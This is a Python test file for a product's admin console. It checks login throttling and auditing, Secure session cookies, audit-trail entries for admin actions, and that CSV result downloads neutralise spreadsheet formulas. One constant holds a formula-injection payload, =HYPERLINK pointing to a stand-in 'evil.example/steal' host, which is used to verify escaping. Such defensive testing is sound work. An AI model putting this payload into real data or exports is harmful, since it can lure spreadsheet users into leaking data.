"""The console's share of the hardening: its sign-in form is throttled and audited like the API's logins,
its session cookie is Secure per DEX_COOKIE_SECURE, its pages carry the security headers, and what its
admin pages change is in the audit trail."""

from __future__ import annotations

import csv
import io

import httpx
from sqlalchemy import text

from dex.api.security import PAGE_POLICY
from dex.config import Settings
from dex.db.engine import Database
from dex.providers.runtime import ProviderRuntime
from tests.conftest import Tenant
from tests.console.conftest import PASSWORD, ConsoleServer, add_super_admin, set_password
from tests.console.test_http import csrf_of
from tests.tenancy.test_login_throttle import app_client

HOSTILE = '=HYPERLINK("http://evil.example/steal","click")'
VERIFY = [{"position": 1, "operation_id": "person.contact.verify_email"}]


async def sign_in_form(client: httpx.AsyncClient, email: str, password: str) -> httpx.Response:
    token = csrf_of(await client.get("/console/login"))
    return await client.post(
        "/console/login", data={"email": email, "password": password, "csrf_token": token}
    )


async def test_console_sign_in_is_throttled_and_audited(
    sandbox_settings: Settings, database: Database, providers: ProviderRuntime, tenant: Tenant
) -> None:
    user = await set_password(database, tenant)
    throttled = sandbox_settings.model_copy(update={"login_max_failures": 2})
    async with app_client(throttled, database, providers) as client:
        first = await sign_in_form(client, user.email, "wrong password")
        assert first.status_code == 401 and "Wrong email or password" in first.text
        locked = await sign_in_form(client, user.email.upper(), "wrong password")
        assert locked.status_code == 429 and "Too many failed sign-ins" in locked.text
        assert locked.headers["retry-after"] == "30"
        assert locked.headers["content-security-policy"] == PAGE_POLICY
        # Locked out: the right password is refused too, as on the API (the count is the same one).
        assert (await sign_in_form(client, user.email, PASSWORD)).status_code == 429
        api = await client.post("/api/auth/login", json={"email": user.email, "password": PASSWORD})
        assert api.status_code == 429
    async with database.transaction() as session:
        await session.execute(text("UPDATE login_failures SET locked_until = now() - interval '1 second'"))
    async with app_client(throttled, database, providers) as client:
        assert (await sign_in_form(client, user.email, PASSWORD)).status_code == 303
        trail = await client.post("/api/v1/audit/list", json={}, headers=tenant.headers)
    actions = [(event["action"], event["details"].get("locked_out")) for event in trail.json()["data"]]
    assert actions == [("login.succeeded", None), ("login.failed", True), ("login.failed", False)]


def session_cookie(response: httpx.Response) -> str:
    assert response.status_code == 303, response.text
    return next(h for h in response.headers.get_list("set-cookie") if h.startswith("dex_session="))


async def test_session_cookies_are_secure_over_https(
    client: httpx.AsyncClient,
    sandbox_settings: Settings,
    database: Database,
    providers: ProviderRuntime,
    tenant: Tenant,
) -> None:
    user = await set_password(database, tenant)
    assert "Secure" not in session_cookie(await sign_in_form(client, user.email, PASSWORD))
    # A browser on HTTPS (DEX_COOKIE_SECURE=auto; the proxy case is in tests/api/test_security.py).
    async with app_client(sandbox_settings, database, providers, "https://dex.test") as https:
        assert "Secure" in session_cookie(await sign_in_form(https, user.email, PASSWORD))


async def test_console_admin_changes_are_in_the_trail(
    client: httpx.AsyncClient, database: Database, settings: Settings
) -> None:
    email = await add_super_admin(database)
    token = csrf_of(await client.get("/console/login"))
    signed = await client.post(
        "/console/login", data={"email": email, "password": PASSWORD, "super_admin": "1", "csrf_token": token}
    )
    assert signed.status_code == 303, signed.text
    created = await client.post(
        "/console/admin/orgs", data={"name": "Console Org", "slug": "console-org", "csrf_token": token}
    )
    assert created.status_code == 303, created.text
    operator = {"Authorization": f"Bearer {settings.super_admin_api_key}"}
    trail = (await client.post("/api/v1/audit/list", json={"action": "org.created"}, headers=operator)).json()
    (event,) = trail["data"]
    assert (event["actor_type"], event["actor_email"]) == ("super_admin", email)
    assert event["details"] == {"name": "Console Org", "slug": "console-org"}


async def test_results_download_runs_no_formula(console: ConsoleServer) -> None:
    blueprint = await console.blueprint("Verify", VERIFY, entity_type="person")
    async with console.api() as api:
        submitted = await api.post(
            "/api/v1/batch/submit",
            json={
                "blueprint_id": blueprint,
                "company_id": str(console.admin.tenant.company_id),
                "entities": [
                    {
                        "entity_type": "person",
                        "input": {"email": "ann@acme.io", "full_name": HOSTILE, "n": -5},
                    }
                ],
            },
        )
    assert submitted.status_code == 200, submitted.text
    await console.executor.wait_idle(60)
    async with httpx.AsyncClient(base_url=console.url, timeout=30) as browser:
        token = csrf_of(await browser.get("/console/login"))
        signed = await browser.post(
            "/console/login", data={"email": console.admin.email, "password": PASSWORD, "csrf_token": token}
        )
        assert signed.status_code == 303, signed.text
        results = await browser.get(
            f"/console/batches/{submitted.json()['data']['submission_id']}/results.csv"
        )
    assert results.status_code == 200 and results.headers["content-type"].startswith("text/csv")
    (row,) = csv.DictReader(io.StringIO(results.text))
    assert row["full_name"] == "'" + HOSTILE and row["n"] == "-5" and row["email"] == "ann@acme.io"
